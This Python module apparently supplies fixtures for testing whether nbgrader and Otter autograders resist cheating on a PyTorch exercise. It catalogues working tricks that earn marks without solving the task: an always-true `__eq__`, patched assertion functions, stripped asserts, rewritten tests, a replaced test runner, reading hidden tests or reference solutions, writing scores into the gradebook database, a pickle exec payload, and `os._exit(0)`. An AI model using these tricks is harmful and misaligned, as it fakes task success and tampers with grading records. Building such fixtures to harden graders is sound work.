"""One exercise, task 1.6 of the course, as nbgrader and Otter would test it, and tricks that want marks without solving it.

Each trick is what a student could write into the cell of the task: a `train_step` that is wrong, and then what is to hide it.
Some do one thing for each grader, since what they go for lies elsewhere in each. Known before this course: an `__eq__` that
says yes (nbgrader's issue 1379), the hidden traceback (its pull request 1324, which closed it), `exit(0)` (issue 8 of
eecs280staff/unit_test_framework).
"""

from __future__ import annotations

__all__ = ["SETUP", "TAGGED", "TESTS", "TRICKS", "WRONG"]

SETUP = """\
import unittest

import torch
from torch import nn


class Line(nn.Module):
    def __init__(self, weight):
        super().__init__()
        self.weight = nn.Parameter(torch.tensor(weight))

    def forward(self, x):
        return self.weight * x, None


def given(weight):
    model = Line(weight)
    return model, torch.optim.SGD(model.parameters(), lr=0.1), torch.ones(1, 2, 1), torch.zeros(1, 2, 1)
"""
TESTS = {  # a mark each
    "loss": "assert train_step(*given(3.0), 10.0) == 9.0",
    "step": """\
model, *others = given(3.0)
train_step(model, *others, 10.0)
torch.testing.assert_close(model.weight.detach(), torch.tensor(2.4))""",
    "shapes": """\
model, sgd, x, y = given(3.0)
unittest.TestCase().assertRaises(ValueError, train_step, model, sgd, x, y[:, 1:], 10.0)""",
    "hidden": "assert train_step(*given(4.0), 10.0) == 16.0",
}

WRONG = "def train_step(*args, **kwargs):\n    return None\n"
BY_HEART = """
def train_step(model, optimizer, x, y, max_norm):
    with torch.no_grad():
        next(model.parameters()).fill_(2.4)
    return 9.0
"""
ALWAYS_EQUAL = """
class Yes:
    def __eq__(self, other):
        return True

def train_step(*args, **kwargs):
    return Yes()
"""
TESTING = f"{WRONG}\ntorch.testing.assert_close = lambda *args, **kwargs: None"
UNITTEST = f"{WRONG}\nimport unittest\nunittest.TestCase.assertRaises = lambda *args, **kwargs: None"
ASSERTS = f"""{WRONG}
import ast, builtins
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

whole = builtins.compile
builtins.compile = lambda *args, **kwargs: whole(*args, **kwargs | {{"optimize": 1}})
get_ipython().ast_transformers.append(NoAsserts())
"""
REWRITTEN = f"""{WRONG}
from pathlib import Path
for path in Path("tests").glob("*.py"):
    head, test, _ = path.read_text().partition("(train_step):\\n")
    path.write_text(head + test + "    pass\\n")
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"] if "train_step(" in "".join(lines) else lines)
"""
RUNNER = f"""{WRONG}
import sys
def yes(*args, **kwargs):
    return True

async def no_error(*args, **kwargs):
    return False

for name, module in list(sys.modules.items()):
    for key, value in list(vars(module).items()) if name.startswith("grader.") else ():
        if callable(value) and not isinstance(value, type) and not key.startswith("__"):
            setattr(module, key, yes)
if "otter" in sys.modules:
    sys.modules["otter.test_files"].test_case.call_func = yes
else:
    get_ipython().run_code = no_error
"""
TRACEBACK = f"""{WRONG}
import IPython.core.interactiveshell
IPython.core.interactiveshell.InteractiveShell.showtraceback = lambda *args, **kwargs: None
"""
TESTS_READ = r"""
import re
from pathlib import Path
text = "".join(path.read_text() for pattern in ("*.ipynb", "tests/*.py") for path in Path().glob(pattern))
known = {float(weight): float(loss) for weight, loss in re.findall(r"given\(([\d.]+)\), [\d.]+\) == ([\d.]+)", text)}

def train_step(model, *others):
    return known.get(next(model.parameters()).detach().flatten()[0].item())
"""
FRAMES = r"""
import linecache, re, sys
def train_step(*args):
    frame = sys._getframe(1)
    while frame:
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)
        if "assertRaises(ValueError, train_step" in line:
            raise ValueError
        if found := re.search(r"train_step\(.*== ([\d.]+)", line):
            return float(found[1])
        frame = frame.f_back
"""
REFERENCE = f"""{WRONG}
import json, sys
from pathlib import Path
def cells(path):
    text = path.read_text()
    return ["".join(cell["source"]) for cell in json.loads(text)["cells"]] if path.suffix == ".ipynb" else text.split("# %%")

places = list(Path.cwd().parents)[:3]
if "toolkit" in sys.modules:
    places += Path(sys.modules["toolkit"].__file__).parents[1:2]
for place in places:
    for path in (*place.glob("source/*/*.ipynb"), *place.glob("solution/notebooks/01*.py")):
        for cell in cells(path):
            if "def train_step" in cell and "BEGIN SOLUTION" in cell:
                exec(cell[cell.index("def train_step"):])
"""
MARKS = f"""{WRONG}
import os, sqlite3, sys
from pathlib import Path
if Path("../../../gradebook.db").is_file():
    with sqlite3.connect("../../../gradebook.db") as book:
        book.execute('''UPDATE grade SET manual_score = 1 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n
            JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)''', [Path.cwd().parent.name])
if "otter" in sys.modules:
    class Marks:
        def __reduce__(self):
            return exec, ("from otter.test_files import TestFile; TestFile.score = property(lambda self: self.possible)",)

    results = sys.modules["otter.test_files"].GradingResults
    results.marks = property(lambda self: None)
    results.__getstate__ = lambda self: {{**vars(self), "_plugin_data": {{"marks": Marks()}}}}
if any(name.startswith("grader.engine") for name in sys.modules):
    for descriptor in range(1024):
        try:
            os.write(descriptor, b'{{"id": "1.6", "verdict": "passed", "score": 2}}\\n' * 10)
        except OSError:
            pass
"""
STATUS = f"{WRONG}\nimport os\nos._exit(0)"
TAGGED = "tests tagged"

# name → (what it does, the cell)
TRICKS = {
    "wrong": ("nothing: it returns None", WRONG),
    "by heart": ("does and returns what the visible tests expect", BY_HEART),
    "always equal": ("returns an object whose __eq__ says yes", ALWAYS_EQUAL),
    "torch.testing replaced": ("replaces assert_close by a function that asks nothing", TESTING),
    "unittest replaced": ("replaces assertRaises by a function that asks nothing", UNITTEST),
    "asserts deleted": ("takes assert statements out of what is compiled later", ASSERTS),
    "tests rewritten": ("rewrites later cells, and the files of tests", REWRITTEN),
    "runner replaced": ("replaces what runs the tests", RUNNER),
    "traceback hidden": ("lets errors leave no trace in a cell's output", TRACEBACK),
    "tests read": ("reads the hidden tests beside it, and answers from them", TESTS_READ),
    "caller's frame": ("reads the answer in the source line that calls it", FRAMES),
    "reference read": ("looks for the reference on the disk, and runs it", REFERENCE),
    "marks written": ("writes marks into the grade book, the results or the wire", MARKS),
    "status 0": ("ends its process with status 0", STATUS),
    TAGGED: ("tags the cells of tests skip-execution", WRONG),
}
